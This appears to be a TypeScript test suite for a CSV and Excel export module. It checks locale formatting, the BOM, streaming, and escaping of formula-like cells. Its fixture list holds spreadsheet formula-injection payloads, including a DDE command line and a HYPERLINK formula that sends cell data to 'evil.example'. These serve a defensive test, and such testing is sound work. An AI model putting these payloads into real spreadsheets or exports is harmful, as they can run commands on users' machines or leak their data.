import { parse } from 'csv-parse/sync';
import readXlsx from 'read-excel-file/node';
import type { Locale } from '@bottega/platform/kernel';
import { type Column, day, moment, money, number, text, word, yesOrNo } from './column';
import { TABLE_FILES, type TableFormat } from './table-file';

interface Somebody {
  name: string | null;
  note?: string;
  hours: number;
  paid: { amount: number; currency: string };
  born: string;
  seen: string;
  role: string;
  adult: boolean;
}

const ROLES = { learner: { it: 'Corsista', en: 'Learner' } };
const COLUMNS: Column<Somebody>[] = [
  text('Nome', 'Name', ({ name }) => name),
  text('Nota', 'Note', ({ note }) => note),
  number('Ore', 'Hours', ({ hours }) => hours),
  money('Pagato', 'Paid', ({ paid }) => paid),
  day('Data di nascita', 'Born on', ({ born }) => born),
  moment('Visto', 'Seen', ({ seen }) => seen),
  word('Ruolo', 'Role', ROLES, ({ role }) => role),
  yesOrNo('Maggiorenne', 'Adult', ({ adult }) => adult),
];

const ADA: Somebody = {
  name: 'Ada «Città» & <b>"Rossi"</b>',
  note: 'prima riga\nseconda; terza, 😀',
  hours: 7.5,
  paid: { amount: -123456, currency: 'EUR' },
  born: '1990-05-04',
  seen: '2027-03-28T01:30:00Z',
  role: 'learner',
  adult: true,
};

async function* inBatches<Row>(rows: Row[], size = 2): AsyncGenerator<Row[]> {
  for (let from = 0; from < rows.length; from += size) yield rows.slice(from, from + size);
}

async function fileOf<Row>(
  format: TableFormat,
  columns: Column<Row>[],
  rows: Row[],
  locale: Locale = 'it',
): Promise<Buffer> {
  const pieces: Buffer[] = [];
  for await (const piece of TABLE_FILES[format].write(columns, inBatches(rows), locale)) pieces.push(piece);
  return Buffer.concat(pieces);
}

const csv = (bytes: Buffer) => parse(bytes, { bom: true, delimiter: ';', record_delimiter: '\r\n' });
const xlsx = async (bytes: Buffer) => (await readXlsx(bytes))[0]!.data;

const ODD = [
  '=1+1', '+39 333 1234567', '-2', '@SUM(A1)', '\t=1', '\r=1', '\n=1', ' =1', '\u00a0=1', '\u200b=1', '＝1', '＋1', '－1', '＠x',
  `=cmd|' /C calc'!A0`, `=HYPERLINK("https://evil.example?x="&A1;"clic")`,
]; // prettier-ignore
const ONE_COLUMN = [text<string>('Testo', 'Text', (value) => value)];

describe('a table as CSV', () => {
  it('is read as it was, with Italian numbers and words', async () => {
    const rows = csv(await fileOf('csv', COLUMNS, [ADA, { ...ADA, name: null, role: 'else', adult: false }, ADA]));
    expect(rows).toEqual([
      ['Nome', 'Nota', 'Ore', 'Pagato', 'Data di nascita', 'Visto', 'Ruolo', 'Maggiorenne'],
      [ADA.name, ADA.note, '7,5', '-1234,56', '1990-05-04', '2027-03-28 03:30', 'Corsista', 'sì'],
      ['', ADA.note, '7,5', '-1234,56', '1990-05-04', '2027-03-28 03:30', 'else', 'no'],
      [ADA.name, ADA.note, '7,5', '-1234,56', '1990-05-04', '2027-03-28 03:30', 'Corsista', 'sì'],
    ]);
  });

  it('says in its first bytes that it is UTF-8', async () => {
    expect((await fileOf('csv', COLUMNS, [])).subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]));
  });

  it('never opens a cell with what a spreadsheet computes', async () => {
    const [, ...rows] = csv(await fileOf('csv', ONE_COLUMN, ODD));
    expect(rows.map(([cell]) => cell)).toEqual(ODD.map((value) => `'${value}`));
  });
});

describe('a table as a workbook', () => {
  it('is read as it was: numbers are numbers, days are days', async () => {
    const [headings, first, second] = await xlsx(await fileOf('xlsx', COLUMNS, [ADA, { ...ADA, name: null }], 'en'));
    expect(headings).toEqual(['Name', 'Note', 'Hours', 'Paid', 'Born on', 'Seen', 'Role', 'Adult']);
    const seen = new Date('2027-03-28T03:30:00Z');
    expect(first).toEqual([ADA.name, ADA.note, 7.5, -1234.56, new Date('1990-05-04'), seen, 'Learner', 'yes']);
    expect(second![0]).toBeNull();
  });

  it('holds texts as texts, whatever they look like, and no control character', async () => {
    const bytes = await fileOf('xlsx', ONE_COLUMN, [...ODD, 'a\u0000b\u001fc\ud800d']);
    const [, ...rows] = await xlsx(bytes);
    expect(rows.map(([cell]) => String(cell).trim())).toEqual([...ODD, 'abc\ufffdd'].map((value) => value.trim()));
  });

  it('has more columns than letters', async () => {
    const columns = Array.from({ length: 60 }, (_, index) =>
      number<number>(`C${index}`, `C${index}`, (row) => row + index),
    );
    const [headings, row] = await xlsx(await fileOf('xlsx', columns, [1000]));
    expect([headings!.at(-1), row!.at(-1), row![26]]).toEqual(['C59', 1059, 1026]);
  });
});

it.each(['csv', 'xlsx'] as const)('a %s of many rows is written while they come, a batch at a time', async (format) => {
  let given = 0;
  async function* many() {
    for (; given < 60_000; given += 500)
      yield Array.from({ length: 500 }, (_, index) => ({ ...ADA, hours: given + index }));
  }
  let largest = 0;
  let early = 0;
  for await (const piece of TABLE_FILES[format].write(COLUMNS, many(), 'it')) {
    largest = Math.max(largest, piece.length);
    if (given < 30_000) early += piece.length;
  }
  expect(largest).toBeLessThan(300_000);
  expect(early).toBeGreaterThan(50_000);
});
